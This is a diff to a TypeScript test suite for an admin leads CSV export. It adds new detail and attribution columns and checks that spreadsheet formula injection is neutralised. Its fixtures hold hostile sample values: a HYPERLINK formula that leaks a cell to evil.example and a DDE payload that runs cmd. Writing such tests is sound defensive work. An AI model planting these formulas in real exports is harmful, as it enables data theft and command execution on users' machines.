@@ -12,7 +12,30 @@ import type { HttpResult } from "./helpers/server.ts";
 
 const targets = databaseTargets("admin-csv", "admin CSV suite");
 
-const HEADER = ["id", "received", "name", "email", "phone", "subject", "message", "status", "spam reason", "source"];
+const HEADER = [
+  "id",
+  "received",
+  "name",
+  "email",
+  "phone",
+  "subject",
+  "message",
+  "status",
+  "spam reason",
+  "source",
+  "zip",
+  "in service area",
+  "street address",
+  "contact method",
+  "best time",
+  "landing page",
+  "referrer",
+  "utm source",
+  "utm medium",
+  "utm campaign",
+];
+/** The cells of the optional details and attribution for a request that has none. */
+const NO_DETAILS = Array<string>(10).fill("");
 
 /** A strict RFC 4180 reader: every cell must be quoted (as ours are); rows end with CR LF. */
 function parseCsv(text: string): string[][] {
@@ -68,7 +91,16 @@ describe.each(targets)("CSV export on $name", (target) => {
     await target.setup();
     site = await startAdminSite(target);
     const leads: [string, Parameters<typeof seedLead>[1]][] = [
-      ["hyperlink", { fromName: "+Plus Person", subject: '=HYPERLINK("http://evil.example/?d="&A1,"Click me")', email: "plus@home.test" }],
+      [
+        "hyperlink",
+        {
+          fromName: "+Plus Person",
+          subject: '=HYPERLINK("http://evil.example/?d="&A1,"Click me")',
+          email: "plus@home.test",
+          // The optional details and the attribution are the visitor's text too.
+          details: { zip: "77008", inServiceArea: true, streetAddress: "=SUM(A1:A9)", contactMethod: "call", bestTime: "-mornings", landingPage: "/", referrer: "@ref", utmSource: "+src", utmMedium: "cpc", utmCampaign: "=camp" },
+        },
+      ],
       ["minus", { fromName: "-Minus Person", subject: "-2+3", email: "minus@home.test", phone: "+1 713 555 0147" }],
       ["at", { fromName: "@At Person", subject: "@SUM(1+1)*cmd|' /C calc'!A0", email: "at@home.test" }],
       ["tabcr", { fromName: "Tab Person", subject: "\t=1+1", message: "\r=2+2 first line\nsecond", email: "tab@home.test" }],
@@ -120,6 +152,16 @@ describe.each(targets)("CSV export on $name", (target) => {
       "new",
       "",
       "/contact",
+      "77008",
+      "yes",
+      "'=SUM(A1:A9)",
+      "call",
+      "'-mornings",
+      "/",
+      "'@ref",
+      "'+src",
+      "cpc",
+      "'=camp",
     ]);
     expect(byId.get(seeded.minus!.id)?.slice(2, 8)).toEqual(["'-Minus Person", "minus@home.test", "'+1 713 555 0147", "'-2+3", "Please call after 5 pm.", "won"]);
     expect(byId.get(seeded.at!.id)?.slice(2, 6)).toEqual(["'@At Person", "at@home.test", "(713) 555-0100", "'@SUM(1+1)*cmd|' /C calc'!A0"]);
@@ -161,7 +203,7 @@ describe.each(targets)("CSV export on $name", (target) => {
     );
     const spam = csvRows(await site.get("/admin/leads.csv?status=spam")).slice(1);
     expect(spam).toEqual([
-      [seeded.spam!.id, seeded.spam!.created_at, ...spam[0]!.slice(2, 5), "Cheap pills", "Please call after 5 pm.", "spam", "honeypot field filled", "/contact"],
+      [seeded.spam!.id, seeded.spam!.created_at, ...spam[0]!.slice(2, 5), "Cheap pills", "Please call after 5 pm.", "spam", "honeypot field filled", "/contact", ...NO_DETAILS],
     ]);
     const won = csvRows(await site.get("/admin/leads.csv?status=won")).slice(1);
     expect(won.map((row) => row[0])).toEqual([seeded.minus!.id]);
